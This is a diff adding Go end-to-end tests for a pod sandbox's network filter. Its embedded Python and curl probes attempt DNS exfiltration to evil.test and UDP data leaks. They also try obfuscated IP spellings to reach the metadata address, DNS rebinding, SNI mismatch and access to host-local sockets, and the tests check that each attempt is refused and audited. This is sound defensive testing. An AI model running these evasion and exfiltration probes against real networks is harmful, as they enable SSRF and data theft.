@@ -1,0 +1,560 @@
+package e2e
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"net"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// probe.py is the attacker's toolbox inside the pod: raw sockets, no
+// proxy library, every spelling under the attacker's control. Each
+// command prints one line.
+const probePy = `import socket, struct, sys
+
+def dnsq(server, proto, name):
+    q = struct.pack(">HHHHHH", 0x4a4a, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    q += b"\0" + struct.pack(">HH", 1, 1)
+    if proto == "udp":
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(3)
+        s.sendto(q, (server, 53))
+        r = s.recv(4096)
+    else:
+        s = socket.create_connection((server, 53), 3)
+        s.sendall(struct.pack(">H", len(q)) + q)
+        r = s.recv(4096)[2:]
+    return "rcode=%d answers=%d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])
+
+def direct(host, port, hosthdr):
+    s = socket.create_connection((host, int(port)), 3)
+    s.settimeout(3)
+    s.sendall(("GET / HTTP/1.0\r\nHost: %s\r\n\r\n" % hosthdr).encode())
+    data = s.recv(4096)
+    return data.split(b"\r\n")[0].decode() if data else "EOF"
+
+def pconnect(target):
+    s = socket.create_connection(("127.0.0.1", 3128), 3)
+    s.settimeout(5)
+    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
+    data = s.recv(4096)
+    return data.split(b"\r\n")[0].decode() if data else "EOF"
+
+def udp(host, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"exfil", (host, int(port)))
+    return "sent"
+
+def unix(name):
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.settimeout(3)
+    s.connect("\0" + name)
+    s.sendall(b"hello from the pod")
+    return "connected"
+
+label, cmd, args = sys.argv[1], sys.argv[2], sys.argv[3:]
+try:
+    out = globals()[cmd](*args)
+except Exception as e:
+    out = "error %s %s" % (type(e).__name__, e)
+print(label, out.replace("\n", " "))
+`
+
+// runProbes runs script (lines of shell using the helpers c and p) in the
+// pod and returns each labelled line of output.
+func (e *env) runProbes(pod, script string) map[string]string {
+	e.t.Helper()
+	e.write("probe.py", probePy)
+	const prelude = `c() { l=$1; shift; o=$(curl -fsS --max-time 6 "$@" 2>&1); rc=$?; echo "$l rc=$rc" $o; }
+p() { /usr/bin/python3 probe.py "$@"; }
+`
+	r := e.run("", "run", pod, "-T", "--", "sh", "-c", prelude+script)
+	if r.code != 0 {
+		e.t.Fatalf("probe script: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
+	}
+	e.t.Logf("probes:\n%s", r.stdout)
+	got := map[string]string{}
+	for _, line := range strings.Split(r.stdout, "\n") {
+		if label, rest, ok := strings.Cut(line, " "); ok {
+			got[label] = rest
+		}
+	}
+	return got
+}
+
+// wantOK and wantFail check one probe's outcome; a missing label fails.
+func wantOK(t *testing.T, got map[string]string, label, body string) {
+	t.Helper()
+	out, ok := got[label]
+	if !ok || !strings.HasPrefix(out, "rc=0") || !strings.Contains(out, body) {
+		t.Errorf("%s: want success with %q, got %q", label, body, out)
+	}
+}
+
+func wantCurlFail(t *testing.T, got map[string]string, label string) {
+	t.Helper()
+	out, ok := got[label]
+	if !ok || strings.HasPrefix(out, "rc=0") || strings.Contains(out, "hello") {
+		t.Errorf("SECURITY %s: want failure, got %q", label, out)
+	}
+}
+
+func wantProbeFail(t *testing.T, got map[string]string, label string) {
+	t.Helper()
+	out, ok := got[label]
+	if !ok || strings.Contains(out, " 200 ") || strings.HasPrefix(out, "connected") || strings.Contains(out, "hello") {
+		t.Errorf("SECURITY %s: want failure, got %q", label, out)
+	}
+}
+
+// Allowed names work over HTTP and HTTPS, through the proxy variables and
+// around them (transparent interception), and every attempt is audited.
+func TestNetAllowedNames(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	e.netConfig(n, "", "allowed.test", "*.allowed.test")
+	e.must("init", "p")
+	got := e.runProbes("p", `
+c proxy-http http://allowed.test/
+c proxy-https --cacert ca.pem https://www.allowed.test/
+c direct-http --noproxy '*' http://allowed.test/
+c direct-https --noproxy '*' --cacert ca.pem https://www.allowed.test/
+c denied-name http://evil.test/
+c denied-name-direct --noproxy '*' http://evil.test/
+`)
+	wantOK(t, got, "proxy-http", "hello allowed.test from web")
+	wantOK(t, got, "proxy-https", "hello www.allowed.test from web")
+	wantOK(t, got, "direct-http", "hello allowed.test from web")
+	wantOK(t, got, "direct-https", "hello www.allowed.test from web")
+	wantCurlFail(t, got, "denied-name")
+	wantCurlFail(t, got, "denied-name-direct")
+
+	evs := e.audit("p")
+	e.wantAudit(evs, "net.connect", "allow", "path:proxy", "allowed.test")
+	e.wantAudit(evs, "net.connect", "allow", "path:connect", "www.allowed.test")
+	e.wantAudit(evs, "net.connect", "allow", "path:transparent", "host:allowed.test", n.web.String())
+	e.wantAudit(evs, "net.connect", "allow", "path:transparent", "www.allowed.test")
+	e.wantAudit(evs, "net.dns", "allow", "name:allowed.test")
+	e.wantAudit(evs, "net.dns", "deny", "name:evil.test")
+	e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:evil.test")
+	e.must("audit", "verify", "p")
+}
+
+// IP literals, direct or through the proxy in any spelling, names that
+// resolve to loopback/private/metadata addresses, and an allowed Host sent
+// to an address the name does not have: all refused and audited.
+func TestNetLiteralsAndRebinding(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	e.netConfig(n, "", "allowed.test", "*.allowed.test")
+	e.must("init", "p")
+	web, other := n.web.String(), n.other.String()
+	got := e.runProbes("p", fmt.Sprintf(`
+c lit-direct --noproxy '*' http://%[1]s/
+c lit-proxy http://%[1]s/
+c lit-tunnel -p --cacert ca.pem https://%[1]s/
+p raw-lit direct %[1]s 80 %[1]s
+p raw-lit-allowedhost direct %[2]s 80 allowed.test
+p raw-lit-https-port direct %[2]s 443 allowed.test
+c other-addr --noproxy '*' --resolve allowed.test:80:%[2]s http://allowed.test/
+p mapped pconnect [::ffff:a9fe:a9fe]:443
+p decimal pconnect 2852039166:443
+p octal pconnect 0251.0376.0251.0376:443
+p hex pconnect 0xa9fea9fe:443
+p meta pconnect 169.254.169.254:80
+p short pconnect 127.1:443
+p v6loop pconnect [::1]:443
+p web-literal pconnect %[1]s:443
+c rebind-loop http://loop.allowed.test/
+c rebind-ten http://ten.allowed.test/
+c rebind-meta http://meta.allowed.test/
+c rebind-six http://six.allowed.test/
+c rebind-loop-direct --noproxy '*' http://loop.allowed.test/
+c rebind-meta-direct --noproxy '*' http://meta.allowed.test/
+c rebind-tunnel -p http://loop.allowed.test/
+p port direct %[1]s 9999 allowed.test
+p mapped-direct direct ::ffff:%[1]s 80 allowed.test
+p mapped-other direct ::ffff:%[2]s 80 allowed.test
+p host-dot direct %[2]s 80 allowed.test.
+p host-port direct %[2]s 80 allowed.test:80
+`, web, other))
+	for _, l := range []string{"lit-direct", "lit-proxy", "lit-tunnel", "other-addr", "rebind-loop", "rebind-ten",
+		"rebind-meta", "rebind-six", "rebind-loop-direct", "rebind-meta-direct", "rebind-tunnel"} {
+		wantCurlFail(t, got, l)
+	}
+	for _, l := range []string{"raw-lit", "raw-lit-allowedhost", "raw-lit-https-port", "mapped", "decimal", "octal",
+		"hex", "meta", "short", "v6loop", "web-literal", "port", "mapped-other", "host-dot", "host-port"} {
+		wantProbeFail(t, got, l)
+	}
+	for _, l := range []string{"mapped", "decimal", "octal", "hex", "meta", "short", "v6loop", "web-literal"} {
+		if !strings.Contains(got[l], "403") {
+			t.Errorf("%s: CONNECT should be answered 403, got %q", l, got[l])
+		}
+	}
+	if k := n.strayCount(); k != 0 {
+		t.Errorf("SECURITY: %d connections reached port 9999 of the test internet", k)
+	}
+	// A v4-mapped destination on an IPv6 socket is IPv4 on the wire and
+	// goes through the same checks: the right address passes, another not.
+	if !strings.Contains(got["mapped-direct"], "200") {
+		t.Errorf("mapped-direct: an allowed name at its own address, v4-mapped, got %q", got["mapped-direct"])
+	}
+
+	evs := e.audit("p")
+	e.wantAudit(evs, "net.leak", "deny", "addr:"+web, "port:80")
+	e.wantAudit(evs, "net.leak", "deny", "addr:"+other, "host:allowed.test")
+	e.wantAudit(evs, "net.leak", "deny", "addr:"+web, "port:9999")
+	e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:"+web)
+	for _, lit := range []string{"::ffff:a9fe:a9fe", "2852039166", "0251.0376.0251.0376", "0xa9fea9fe", "127.1"} {
+		e.wantAudit(evs, "net.connect", "deny", "path:connect", lit)
+	}
+	for _, name := range []string{"loop.allowed.test", "ten.allowed.test", "meta.allowed.test", "six.allowed.test"} {
+		e.wantAudit(evs, "net.connect", "deny", "host:"+name)
+	}
+}
+
+// DNS as a channel: a denied name carrying data in its labels, asked of
+// the pod's resolver, of the authoritative server directly (UDP and TCP)
+// and of a public resolver, never reaches the authoritative server. Other
+// UDP is dropped.
+func TestNetDNSExfiltration(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	e.netConfig(n, "", "allowed.test")
+	e.must("init", "p")
+	web := n.web.String()
+	got := e.runProbes("p", fmt.Sprintf(`
+p via-resolver dnsq 127.0.0.1 udp secretdata123.evil.test
+p auth-udp dnsq %[1]s udp secretdata124.evil.test
+p auth-tcp dnsq %[1]s tcp secretdata125.evil.test
+p public-udp dnsq 8.8.8.8 udp secretdata126.evil.test
+p allowed-auth dnsq %[1]s udp allowed.test
+p udp-other udp %[1]s 9999
+`, web))
+	for _, l := range []string{"via-resolver", "auth-udp", "auth-tcp", "public-udp"} {
+		if !strings.Contains(got[l], "rcode=3") {
+			t.Errorf("%s: want NXDOMAIN from the wall, got %q", l, got[l])
+		}
+	}
+	// A query for an allowed name sent to the authoritative server's
+	// address is answered too, by the wall, through its upstream.
+	if !strings.Contains(got["allowed-auth"], "rcode=0 answers=1") {
+		t.Errorf("allowed-auth: want an answer, got %q", got["allowed-auth"])
+	}
+	if !strings.HasPrefix(got["udp-other"], "error PermissionError") {
+		t.Errorf("udp-other: want EPERM from the drop rule, got %q", got["udp-other"])
+	}
+	time.Sleep(100 * time.Millisecond) // let any stray datagram land
+	for _, q := range n.queries() {
+		if strings.Contains(q, "secretdata") {
+			t.Errorf("SECURITY: the authoritative server was asked %q", q)
+		}
+	}
+	if k := n.strayCount(); k != 0 {
+		t.Errorf("SECURITY: %d datagrams reached port 9999 of the test internet", k)
+	}
+	evs := e.audit("p")
+	for i := 123; i <= 126; i++ {
+		e.wantAudit(evs, "net.dns", "deny", fmt.Sprintf("name:secretdata%d.evil.test", i))
+	}
+}
+
+// TLS through a CONNECT tunnel to an allowed host must name that host in
+// its SNI, even when the other name is allowed too and the certificate
+// covers both; transparently, an SNI of a denied name is refused.
+func TestNetSNIMismatch(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	e.netConfig(n, "", "allowed.test", "www.allowed.test")
+	e.must("init", "p")
+	web := n.web.String()
+	got := e.runProbes("p", fmt.Sprintf(`
+c control --cacert ca.pem https://allowed.test/
+c tunnel-denied-sni --cacert ca.pem --connect-to evil.test:443:allowed.test:443 https://evil.test/
+c tunnel-allowed-sni --cacert ca.pem --connect-to www.allowed.test:443:allowed.test:443 https://www.allowed.test/
+c tunnel-no-sni --cacert ca.pem --connect-to %[1]s:443:allowed.test:443 -k https://%[1]s/
+c transparent-denied-sni --noproxy '*' --cacert ca.pem --resolve evil.test:443:%[1]s https://evil.test/
+`, web))
+	wantOK(t, got, "control", "hello allowed.test")
+	for _, l := range []string{"tunnel-denied-sni", "tunnel-allowed-sni", "tunnel-no-sni", "transparent-denied-sni"} {
+		wantCurlFail(t, got, l)
+	}
+	evs := e.audit("p")
+	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:allowed.test", "evil.test")
+	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:allowed.test", "www.allowed.test")
+	e.wantAudit(evs, "net.leak", "deny", "host:evil.test")
+}
+
+// Services the host keeps to itself, an abstract unix socket and a TCP
+// listener on the host's loopback, are out of a pod's reach, directly or
+// through the proxy, even with their port allowed.
+func TestNetHostLocalServices(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	name, accepted := abstractListener(t)
+	tcp, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer tcp.Close()
+	tcpHits := make(chan struct{}, 16)
+	go func() {
+		for {
+			c, err := tcp.Accept()
+			if err != nil {
+				return
+			}
+			tcpHits <- struct{}{}
+			c.Close()
+		}
+	}()
+	port := tcp.Addr().(*net.TCPAddr).Port
+	e.netConfig(n, fmt.Sprintf("  ports: [80, 443, %d]\n", port), "allowed.test", "localhost")
+	e.must("init", "p")
+	got := e.runProbes("p", fmt.Sprintf(`
+p abstract unix %[1]s
+p loop-direct direct 127.0.0.1 %[2]d localhost
+p loop-connect pconnect 127.0.0.1:%[2]d
+p localhost-connect pconnect localhost:%[2]d
+p hostside-direct direct %[3]s %[2]d allowed.test
+c loop-proxy http://localhost:%[2]d/
+`, name, port, n.host))
+	if !strings.HasPrefix(got["abstract"], "error") {
+		t.Errorf("SECURITY: the pod reached the host's abstract socket @%s: %q", name, got["abstract"])
+	}
+	if k := accepted(); k != 0 {
+		t.Errorf("SECURITY: the host's abstract socket accepted %d connections from the pod", k)
+	}
+	for _, l := range []string{"loop-direct", "loop-connect", "localhost-connect", "hostside-direct"} {
+		wantProbeFail(t, got, l)
+	}
+	wantCurlFail(t, got, "loop-proxy")
+	if len(tcpHits) != 0 {
+		t.Errorf("SECURITY: the host's loopback listener accepted %d connections from the pod", len(tcpHits))
+	}
+	evs := e.audit("p")
+	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:localhost")
+	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:127.0.0.1")
+	e.wantAudit(evs, "net.leak", "deny", "addr:"+n.host.String())
+}
+
+// abstractListener listens on a fresh abstract unix socket of the host and
+// counts connections.
+func abstractListener(t *testing.T) (string, func() int) {
+	t.Helper()
+	name := fmt.Sprintf("airlock-test-%d", rand.Int64())
+	l, err := net.Listen("unix", "@"+name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	count := make(chan int, 1)
+	count <- 0
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			count <- <-count + 1
+			// Read before closing so the pod's write cannot race the close.
+			_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
+			_, _ = c.Read(make([]byte, 64))
+			c.Close()
+		}
+	}()
+	return name, func() int { k := <-count; count <- k; return k }
+}
+
+// The policy changes while the pod runs: allow makes a denied name work,
+// deny blocks it again, with no restart, and the change is kept.
+func TestNetLivePolicy(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	e.netConfig(n, "", "allowed.test")
+	e.must("init", "p")
+	// One probe per line read: through the proxy, then around it.
+	r := e.start("run", "p", "-T", "--", "sh", "-c", `while read name; do
+  for m in proxy direct; do
+    if [ $m = direct ]; then np='*'; else np=''; fi
+    if out=$(curl -fsS --max-time 5 --noproxy "$np" http://$name/ 2>&1); then echo "$m ok $out"; else echo "$m fail"; fi
+  done
+done`)
+	ask := func(name string) string {
+		t.Helper()
+		if _, err := io.WriteString(r.stdin, name+"\n"); err != nil {
+			t.Fatal(err)
+		}
+		return r.next() + " | " + r.next()
+	}
+	if got := ask("live.test"); strings.Contains(got, "ok") {
+		t.Fatalf("live.test reachable before it was allowed: %s", got)
+	}
+	if out := e.must("net", "p", "allow", "live.test").stdout; !strings.Contains(out, "in effect now") {
+		t.Errorf("net allow on a running pod: %q", out)
+	}
+	if got := ask("live.test"); got != "proxy ok hello live.test from web | direct ok hello live.test from web" {
+		t.Errorf("after net allow: %s", got)
+	}
+	e.must("net", "p", "deny", "live.test")
+	if got := ask("live.test"); strings.Contains(got, "ok") {
+		t.Errorf("SECURITY: live.test still reachable after net deny: %s", got)
+	}
+	if got := ask("allowed.test"); strings.Count(got, " ok ") != 2 {
+		t.Errorf("allowed.test after the changes: %s", got)
+	}
+	var pol struct {
+		Mode        string
+		Allow, Deny []string
+	}
+	if err := json.Unmarshal([]byte(e.must("net", "p", "ls", "--json").stdout), &pol); err != nil {
+		t.Fatal(err)
+	}
+	if !contains(pol.Deny, "live.test") || contains(pol.Allow, "live.test") || !contains(pol.Allow, "allowed.test") {
+		t.Errorf("net ls --json: %+v", pol)
+	}
+	r.stop()
+	// Kept in the pod's config: the next run starts with it.
+	cfg, err := os.ReadFile(filepath.Join(e.home, "pods", "p", "pod.yaml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(cfg), "live.test") {
+		t.Errorf("pod config lacks live.test:\n%s", cfg)
+	}
+	got := e.runProbes("p", "c again http://live.test/\n")
+	wantCurlFail(t, got, "again")
+
+	evs := e.audit("p")
+	e.wantAudit(evs, "net.allow", "ok", "live.test")
+	e.wantAudit(evs, "net.deny", "ok", "live.test")
+	e.wantAudit(evs, "net.reload", "ok", "live.test")
+	e.wantAudit(evs, "net.connect", "allow", "path:proxy", "host:live.test")
+	e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:live.test")
+	e.wantAudit(evs, "net.dns", "deny", "name:live.test")
+}
+
+func contains(list []string, s string) bool {
+	for _, x := range list {
+		if x == s {
+			return true
+		}
+	}
+	return false
+}
+
+// A published pod port is reachable from the host.
+func TestNetPublish(t *testing.T) {
+	e := newEnv(t)
+	e.must("init", "p")
+	port := freePort(t)
+	e.write("served.txt", "served from the pod\n")
+	// The server stops when the test closes stdin.
+	r := e.start("run", "p", "-T", "-p", fmt.Sprintf("127.0.0.1:%d:8080", port), "--", "sh", "-c",
+		"/usr/bin/python3 -m http.server 8080 --bind 127.0.0.1 2>/dev/null & cat >/dev/null; kill $!")
+	url := fmt.Sprintf("http://127.0.0.1:%d/served.txt", port)
+	var body string
+	waitFor(t, func() bool {
+		resp, err := http.Get(url)
+		if err != nil {
+			return false
+		}
+		defer resp.Body.Close()
+		b, _ := io.ReadAll(resp.Body)
+		body = string(b)
+		return resp.StatusCode == 200
+	})
+	if body != "served from the pod\n" {
+		t.Errorf("published port served %q", body)
+	}
+	r.stop()
+	if c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), time.Second); err == nil {
+		c.Close()
+		t.Errorf("port %d still published after the pod stopped", port)
+	}
+}
+
+func freePort(t *testing.T) int {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	return l.Addr().(*net.TCPAddr).Port
+}
+
+// Mode none: loopback works, nothing else exists.
+func TestNetModeNone(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	e.netConfig(n, "  mode: none\n", "allowed.test")
+	e.must("init", "p")
+	got := e.runProbes("p", fmt.Sprintf(`
+c name http://allowed.test/
+p literal direct %[1]s 80 allowed.test
+p proxy pconnect allowed.test:443
+p dns dnsq %[1]s udp secretdata127.evil.test
+p udp udp %[1]s 9999
+echo links $(tail -n +3 /proc/net/dev | cut -d: -f1)
+/usr/bin/python3 -c 'import socket; l=socket.socket(); l.bind(("127.0.0.1",0)); l.listen(); c=socket.create_connection(l.getsockname()); print("loopback ok")'
+`, n.web))
+	wantCurlFail(t, got, "name")
+	for _, l := range []string{"literal", "proxy", "dns", "udp"} {
+		if !strings.HasPrefix(got[l], "error") {
+			t.Errorf("SECURITY %s in mode none: %q", l, got[l])
+		}
+	}
+	if strings.TrimSpace(got["links"]) != "lo" {
+		t.Errorf("links in mode none: %q, want only lo", got["links"])
+	}
+	if got["loopback"] != "ok" {
+		t.Errorf("loopback in mode none: %q", got["loopback"])
+	}
+	for _, q := range n.queries() {
+		if strings.Contains(q, "secretdata") {
+			t.Errorf("SECURITY: the authoritative server was asked %q", q)
+		}
+	}
+	if k := n.strayCount(); k != 0 {
+		t.Errorf("SECURITY: %d packets reached the test internet in mode none", k)
+	}
+	if st := e.must("status", "p", "--json").stdout; !strings.Contains(st, `"up (none)"`) {
+		t.Errorf("status walls in mode none: %s", st)
+	}
+}
+
+// Mode host: the pod shares the host's network, and says so loudly. The
+// abstract socket the filtered pod could not reach is reachable here,
+// which shows that test's probe works.
+func TestNetModeHost(t *testing.T) {
+	e := newEnv(t)
+	e.write("airlock.yaml", "version: 1\nnetwork:\n  mode: host\n")
+	name, accepted := abstractListener(t)
+	e.must("init", "p")
+	r := e.run("", "run", "p", "-T", "--", "true")
+	if r.code != 0 || !strings.Contains(strings.ToLower(r.stderr), "host") {
+		t.Errorf("run in mode host: exit %d, want a warning on stderr, got %q", r.code, r.stderr)
+	}
+	got := e.runProbes("p", "p abstract unix "+name+"\n")
+	if got["abstract"] != "connected" || accepted() == 0 {
+		t.Errorf("mode host: the host's abstract socket should be reachable: %q", got["abstract"])
+	}
+	var st struct{ Walls map[string]string }
+	if err := json.Unmarshal([]byte(e.must("status", "p", "--json").stdout), &st); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(st.Walls["network"], "OFF") {
+		t.Errorf("status walls network in mode host: %q", st.Walls["network"])
+	}
+	e.wantAudit(e.audit("p"), "wall.network", "warning", "mode:host")
+}
